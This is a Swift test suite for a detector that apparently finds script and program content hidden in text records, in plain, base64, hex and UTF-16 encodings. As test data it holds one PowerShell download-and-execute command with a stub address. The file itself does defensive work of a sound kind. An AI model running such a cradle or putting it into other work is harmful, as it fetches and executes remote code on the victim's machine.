import PayloadMeasures
import TestSupport
import Testing

/// Scripts and programs in texts, in the writings of stagers.
@Suite struct ProgramTextTests {
    private static let command = Array(
        "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('u')".utf8
    )

    enum Writing: String, CaseIterable, Sendable {
        case plain, base64, base16, utf16InBase64

        func write(_ text: [UInt8]) -> [UInt8] {
            switch self {
            case .plain: text
            case .base64: TextEncoding.standardBase64.encode(text)
            case .base16: TextEncoding.base16.encode(text)
            case .utf16InBase64: TextEncoding.standardBase64.encode(text.flatMap { [$0, 0] })
            }
        }
    }

    @Test(arguments: Writing.allCases, [20, 60, 255])
    func isFoundInParts(writing: Writing, octets: Int) {
        let written = writing.write(Self.command)
        let parts = stride(from: 0, to: written.count, by: octets).map {
            Array(written[$0..<min($0 + octets, written.count)])
        }
        // powershell, IEX ( and DownloadString.
        #expect(ProgramText.wordCount(in: parts) == 3)
    }

    @Test func programsAreFound() {
        let windows =
            [UInt8]("MZ".utf8) + [UInt8](repeating: 0, count: 76)
            + Array("This program cannot be run in DOS mode.".utf8)
        #expect(ProgramText.wordCount(in: [TextEncoding.standardBase64.encode(windows)]) == 1)
        #expect(ProgramText.wordCount(in: [[0x7F, 0x45, 0x4C, 0x46, 2, 1, 1]]) == 1)
    }

    @Test(arguments: [
        "v=spf1 include:_spf.example.com ~all",
        "google-site-verification=rXOxyZounnZasA8Z7oaD3c14JdjS9aKSWvsR1EbUSIQ",
        "64496 | 192.0.2.0/24 | ZZ | ripencc | 2010-07-15", "We index power shells and bash scripts", "",
    ])
    func ordinaryTextsAreNone(text: String) {
        #expect(ProgramText.wordCount(in: [Array(text.utf8)]) == 0)
    }

    @Test func noiseIsNone() {
        var generator = SeededGenerator(seed: 21)
        let texts = (0..<40).map { _ in TextEncoding.standardBase64.encode(generator.octets(186)) }
        #expect(ProgramText.wordCount(in: texts) == 0)
    }
}
